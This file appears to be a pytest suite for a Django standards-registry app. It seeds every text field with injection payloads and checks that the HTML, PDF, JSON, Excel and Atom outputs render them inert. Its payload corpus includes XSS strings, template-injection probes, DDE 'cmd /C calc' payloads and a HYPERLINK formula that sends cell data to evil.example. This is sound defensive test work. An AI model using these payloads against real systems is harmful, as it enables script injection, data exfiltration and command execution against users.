"""Classic injection payloads in every text field of a published version come out inert.

Each text field of the registry (and the item's name, and the change note)
receives a payload from the corpus; the version is published; then the guide
page, the guide PDF, the JSON export, the API snapshot, the Excel export and
the Atom feed are read back. In markup the payloads must appear escaped (as
text, never as elements or attributes); in data formats they must come back
unchanged as strings; in the spreadsheet no cell may be a formula.
"""

from __future__ import annotations

import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from itertools import cycle
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from guides.pdf import render_guide_pdf
from standards.models import PublishedSnapshot, StandardVersion, User
from standards.registry import REGISTRY, FieldType
from standards.snapshot import SCHEMA_VERSION, snapshot
from tests.content import fill_version
from tests.factories import UserFactory, VersionFactory

from .test_csp import inline_problems

pytestmark = pytest.mark.django_db

CORPUS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)",
    "<svg onload=alert(4)>",
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "'\"><iframe src=javascript:alert(5)></iframe>",
    "</textarea><script>alert(6)</script>",
    '<a href="javascript:alert(7)">点我</a>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(8))">x</div>',
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<!--<script>alert(9)//-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
)

# The payloads' markup as it would read if it were not escaped.
RAW_MARKUP = re.compile(
    r"<script>alert|<img src=x|<svg onload|<iframe src=|<a href=\"javascript|<style>body"
    r"|<div style=|<math>|</textarea>|<!--<script",
    re.IGNORECASE,
)


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def published() -> tuple[PublishedSnapshot, dict[str, str]]:
    """A version whose every text field holds a payload, published; field code → payload."""
    version: StandardVersion = VersionFactory(  # type: ignore[assignment]
        standard__item__name=CORPUS[0] + "许可", change_note=CORPUS[1]
    )
    fill_version(version)
    payloads = cycle(CORPUS)
    placed: dict[str, str] = {}
    for group in REGISTRY.groups.values():
        for instance in group.model.objects.filter(version=version):
            for f in group.fields:
                if f.type not in (FieldType.TEXT, FieldType.LONGTEXT, FieldType.URL):
                    continue
                payload = next(payloads) if f.type is not FieldType.URL else "javascript:alert(0)"
                limit = instance._meta.get_field(f.attribute).max_length
                if limit and len(payload) > limit:
                    continue
                setattr(instance, f.attribute, payload)
                placed[f.code] = payload
            instance.save()
    StandardVersion.objects.filter(pk=version.pk).update(
        state="published", effective_from=datetime.date(2026, 1, 1)
    )
    version.refresh_from_db()
    leader: User = UserFactory(department=version.standard.department)  # type: ignore[assignment]
    shot = PublishedSnapshot.objects.create(
        version=version, schema_version=SCHEMA_VERSION, data=snapshot(version), published_by=leader
    )
    text_fields = [
        f for f in REGISTRY.fields if f.type in (FieldType.TEXT, FieldType.LONGTEXT, FieldType.URL)
    ]
    # Every text field holds a payload, but a few short code-like columns too narrow for one.
    assert len(placed) >= 0.9 * len(text_fields), (len(placed), len(text_fields))
    return shot, placed


def _standard_kwargs(shot: PublishedSnapshot) -> dict[str, Any]:
    standard = shot.version.standard
    return {"basic_code": standard.item.basic_code, "department_code": standard.department.code}


def _guide_codes(placed: dict[str, str]) -> dict[str, str]:
    return {c: p for c, p in placed.items() if REGISTRY[c].in_guide}


def test_the_guide_page_shows_every_payload_as_text(published):
    shot, _placed = published
    response = Client().get(reverse("guides:guide", kwargs=_standard_kwargs(shot)))
    assert response.status_code == 200
    html = response.content.decode()
    assert not RAW_MARKUP.search(html), RAW_MARKUP.search(html)
    assert not inline_problems(html, None)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "{{7*7}}" in html and "{% debug %}" in html  # shown, never evaluated
    assert 'href="javascript:' not in html.lower()


def test_the_guide_pdf_prints_the_payloads_literally(published):
    shot, _placed = published
    pdf = render_guide_pdf(shot.data, public_url="https://example.gov.cn/guides/x/")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    flat = re.sub(r"\s+", "", text)
    # Tags typeset as text: an interpreted tag would have vanished from the text layer.
    assert re.sub(r"\s+", "", "<script>alert(1)</script>") in flat
    assert re.sub(r"\s+", "", "<svg onload=alert(4)>") in flat
    assert "{{7*7}}" in flat


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


@pytest.mark.parametrize("url_name", ["interchange:json", "api:in-force"])
def test_json_outputs_carry_the_payloads_unchanged_as_strings(published, url_name):
    shot, placed = published
    kwargs = _standard_kwargs(shot)
    if url_name == "interchange:json":
        kwargs["number"] = shot.version.number
    response = Client().get(reverse(url_name, kwargs=kwargs))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    strings = set(_strings(json.loads(response.content)))
    for payload in set(_guide_codes(placed).values()) - {"javascript:alert(0)"}:
        assert payload in strings, payload


def test_the_excel_export_has_only_string_cells_and_no_formula(published):
    shot, _placed = published
    kwargs = {**_standard_kwargs(shot), "number": shot.version.number}
    response = Client().get(reverse("interchange:xlsx", kwargs=kwargs))
    assert response.status_code == 200
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    book = load_workbook(io.BytesIO(raw))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    for payload in CORPUS:
        if payload.startswith(("=", "+", "-", "@")):
            assert payload not in values  # neutralised ...
            assert "'" + payload in values  # ... by the quote prefix, still readable
    assert "<script>alert(1)</script>" in values


def test_the_atom_feed_escapes_the_payloads(published):
    response = Client().get(reverse("subscriptions:feed"))
    assert response.status_code == 200
    body = response.content.decode()
    root = ET.fromstring(body)  # noqa: S314 (our own feed) — well-formed despite the payloads
    texts = " ".join(t for t in root.itertext())
    assert "<script>alert(1)</script>许可" in texts
    assert not RAW_MARKUP.search(body)
